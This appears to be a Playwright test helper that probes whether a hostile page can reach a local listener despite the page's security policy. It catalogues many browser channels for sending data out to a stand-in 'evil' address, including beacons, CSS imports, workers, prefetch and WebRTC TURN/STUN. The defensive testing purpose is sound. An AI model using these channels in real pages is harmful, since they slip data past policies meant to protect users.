/** What a page that an attacker has whole would try to reach an address, past `fetch` and elements. */
import { createSocket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import type { Page } from 'playwright/test';

export interface Listener {
  readonly port: number;
  /** Connections and packets that arrived, whatever they held. */
  readonly arrived: readonly string[];
  close(): Promise<void>;
}

/** Listens for TCP and UDP on one port, and answers nothing. */
export async function startListener(): Promise<Listener> {
  const arrived: string[] = [];
  const tcp = createServer((socket) => {
    arrived.push('tcp');
    socket.on('error', () => undefined).destroy();
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  const { port } = tcp.address() as AddressInfo;
  const udp = createSocket('udp4', () => arrived.push('udp'));
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
  return {
    port,
    arrived,
    close: async () => {
      udp.close();
      await new Promise((resolve) => tcp.close(resolve));
    },
  };
}

/** Tries what the page's policy forbids, but for what `injectAttacks` tries. Resolves once the browser has judged it. */
export function tryElements(page: Page, port: number): Promise<void> {
  return page.evaluate(async (to) => {
    const evil = `http://127.0.0.1:${to}`;
    const quiet = (work: () => unknown) => {
      try {
        void Promise.resolve(work()).catch(() => undefined);
      } catch {
        // Refused, as it has to be.
      }
    };
    for (const rel of ['prefetch', 'prerender', 'preload', 'icon', 'manifest']) {
      const link = Object.assign(document.createElement('link'), { rel, href: `${evil}/${rel}` });
      if (rel === 'preload') link.as = 'script';
      document.head.append(link);
    }
    const style = Object.assign(document.createElement('style'), {
      textContent: `@import "${evil}/import.css"; body { background: url("${evil}/css") }`,
    });
    document.head.append(style);
    document.body.style.setProperty('background-image', `url("${evil}/inline")`);
    quiet(() => navigator.sendBeacon(`${evil}/beacon`, 'x'));
    quiet(() => navigator.serviceWorker?.register(`${evil}/worker.js`));
    quiet(() => navigator.serviceWorker?.register('data:text/javascript,1'));
    quiet(() => new EventSource(`${evil}/events`));
    quiet(() => new SharedWorker(`${evil}/shared.js`));
    quiet(
      () =>
        new (window as unknown as { WebTransport: new (url: string) => unknown }).WebTransport(
          `https://127.0.0.1:${to}/`,
        ),
    );
    quiet(() => fetch(evil, { mode: 'no-cors', keepalive: true }));
    quiet(() => new Audio(`${evil}/audio`).play());
    quiet(() => new FontFace('evil', `url(${evil}/font)`).load());
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${evil}/speculation`] }] });
    document.head.append(rules);
    // The last that is asked for fails after all others have been judged.
    await fetch(evil).catch(() => undefined);
    await new Promise((resolve) => requestIdleCallback(resolve));
  }, port);
}

/** Tries what no policy of a page covers: connections made ahead, and WebRTC, until it has given up finding ways. */
export function tryConnections(page: Page, port: number): Promise<void> {
  return page.evaluate(async (to) => {
    for (const rel of ['preconnect', 'dns-prefetch']) {
      const link = Object.assign(document.createElement('link'), { rel, href: `http://127.0.0.1:${to}/` });
      document.head.append(link);
    }
    const turn = [`turn:127.0.0.1:${to}?transport=udp`, `turn:127.0.0.1:${to}?transport=tcp`];
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `stun:127.0.0.1:${to}` }, { urls: turn, username: 'u', credential: 'c' }],
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise<void>((resolve) => {
      const isOver = () => peer.iceGatheringState === 'complete' && resolve();
      peer.onicegatheringstatechange = isOver;
      isOver();
      setTimeout(resolve, 15_000);
    });
    peer.close();
  }, port);
}
